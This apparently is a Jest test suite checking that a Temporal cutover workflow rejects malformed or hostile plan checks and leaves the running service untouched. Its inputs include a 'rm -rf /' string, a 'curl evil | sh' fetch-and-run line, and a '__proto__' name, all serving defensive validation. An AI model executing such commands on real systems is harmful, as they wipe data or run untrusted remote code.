/**
 * A plan's `checks:` is data a user writes, and the UI or the `temporal` CLI hands it over as is:
 * a shell line for argv, two providers in one check, rules that do not parse, 100 kB or deeply
 * nested CEL, a token written inline, PromQL and JMESPath that do not parse. Each cutover started
 * that way ends ABORTED at the plan check, naming the field and the fix; V1 keeps serving, nothing
 * is backed up or started, and no workflow task fails.
 */
import fs from 'node:fs';
import path from 'node:path';
import type { TestWorkflowEnvironment } from '@temporalio/testing';
import type { CutoverView } from '../../domain/cutover-model';
import { startService } from '../../activities/service-control';
import { devServerWithWorker } from '../helpers/dev-server-suite';
import { createDemoFixture, isUp, type DemoFixture } from '../helpers/demo-fixture';
import { uniqueId } from '../helpers/cutover-runner';
import { cli, HUGE, taskFailures } from './temporal-cli';
import { viewOrThrow } from '../../domain/outcome';

const suite = devServerWithWorker();
let env: TestWorkflowEnvironment;
let fixture: DemoFixture;
let c: ReturnType<typeof cli>;

beforeAll(async () => {
  env = suite.env;
  c = cli(env.address);
  fixture = await createDemoFixture();
  await startService(fixture.loaded(), 'v1');
});
afterAll(() => fixture?.cleanup());

const http = { path: '/health' };
test.each<[string, unknown, RegExp]>([
  ['checks that are a string', 'rm -rf /', /checks: .*(array|list)/i],
  [
    'a shell line for argv',
    [{ name: 'script', command: { argv: 'sh -c "curl evil | sh"' } }],
    /checks\.0\.command\.argv: expected array, received string: change it to a list/,
  ],
  [
    'two providers in one check',
    [{ name: 'two', http, command: { argv: ['true'] } }],
    /checks\.0: http and command in one check: a check has one provider; split it/,
  ],
  [
    'no provider at all',
    [{ name: 'none', fail: 'true' }],
    /checks\.0: no provider: add one of http, prometheus, sql, command/,
  ],
  [
    'a rule that does not parse',
    [{ name: 'broken', http, fail: 'result.value >' }],
    /checks\.0\.fail: not a valid CEL expression/,
  ],
  [
    'a 100 kB rule',
    [{ name: 'huge', http, fail: `${'1 + '.repeat(25_000)}1 > 0` }],
    /checks\.0\.fail: keep a rule under 4000 characters/,
  ],
  [
    'a 1,500-term rule',
    [{ name: 'long', http, fail: `${'1+'.repeat(1_500)}1 > 0` }],
    /checks\.0\.fail: not a valid CEL expression/,
  ],
  [
    'a rule nested 1,500 deep',
    [{ name: 'deep', http, fail: `${'('.repeat(1_500)}true${')'.repeat(1_500)}` }],
    /checks\.0\.fail: not a valid CEL expression/,
  ],
  [
    'a token written inline',
    [{ name: 'authed', http: { ...http, headers: { Authorization: 'Bearer abcdefghijkl' } } }],
    /checks\.0\.http\.headers\.Authorization: a secret written in the plan: move it to headersFromEnv/,
  ],
  [
    'an undeclared database',
    [{ name: 'db', sql: { database: 'w', query: 'select 1' } }],
    /checks\.0\.sql\.database: "w" is not in databases: add databases\.w/,
  ],
  [
    'a prometheus check without a prometheus server',
    [{ name: 'prom', prometheus: { query: 'sum(rate(x[5m]' } }],
    /checks\.0\.prometheus: a prometheus check needs the plan's top-level `prometheus/,
  ],
  ['JMESPath that does not parse', [{ name: 'jp', http: { ...http, extract: 'a[?' } }], /checks\.0\.http\.extract: /],
  ['a name that is a prototype key', [{ name: '__proto__', http }], /checks\.0\.name: use lower-case letters/],
  ['a 100 kB name', [{ name: HUGE, http }], /checks\.0\.name: keep a check name under 64 characters/],
])(
  'a cutover started from the temporal CLI with %s ends ABORTED ' + 'at the plan check, V1 serving, nothing touched',
  async (_label, checks, message) => {
    const id = uniqueId('hostile-checks');
    const started = await c.start(id, 'cutoverWorkflow', JSON.stringify({ plan: { ...fixture.plan, checks } }));
    expect(started.code).toBe(0);
    const result = (await env.client.workflow.getHandle(id).result().catch(viewOrThrow)) as CutoverView;
    expect(result.status).toBe('ABORTED');
    expect(result.message).toMatch(/^nothing changed: /);
    expect(result.message).toMatch(message);
    // the message stays readable whatever came in: the 100 kB inputs are not echoed back whole
    expect(result.message.length).toBeLessThan(20_000);
    expect(await taskFailures(c, id)).toEqual([]);
    expect((await c.status<CutoverView>(id)).status).toBe('ABORTED');
    expect(await isUp(fixture.urls.v1)).toBe(true);
    expect(await isUp(fixture.urls.v2)).toBe(false);
    expect(fs.existsSync(path.join(fixture.workdir, 'backups'))).toBe(false);
  },
);
